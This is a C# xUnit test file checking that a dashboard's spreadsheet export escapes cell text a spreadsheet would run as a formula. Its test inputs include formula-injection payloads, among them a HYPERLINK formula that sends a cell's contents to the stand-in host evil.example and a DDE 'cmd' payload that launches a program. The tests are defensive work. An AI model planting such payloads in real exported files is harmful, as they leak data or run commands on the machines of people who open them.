using Dashboard.Server.Export;

namespace Dashboard.Tests.Export;

public sealed class SpreadsheetTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example?\"&A1)", "'=HYPERLINK(\"http://evil.example?\"&A1)")]
    [InlineData("+1", "'+1")]
    [InlineData("-5 °C", "'-5 °C")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "\t'=1")]
    [InlineData("\r=1", "\r'=1")]
    [InlineData("  =1", "  '=1")]
    [InlineData("\"=1", "\"'=1")]
    [InlineData("＝1", "'＝1")]
    [InlineData("x;=1", "x;'=1")]
    [InlineData("x\n=cmd|'/c calc'!A1", "x\n'=cmd|'/c calc'!A1")]
    [InlineData("==1", "'==1")]
    public void A_beginning_that_a_spreadsheet_would_run_becomes_text(string text, string harmless) =>
        Assert.Equal(harmless, SpreadsheetText.Harmless(text));

    [Theory]
    [InlineData("")]
    [InlineData("disk full")]
    [InlineData("a=b, 3+4, me@example, web-1")]
    [InlineData("two\nlines; and more")]
    public void Everything_else_stays_as_it_was(string text) => Assert.Equal(text, SpreadsheetText.Harmless(text));
}
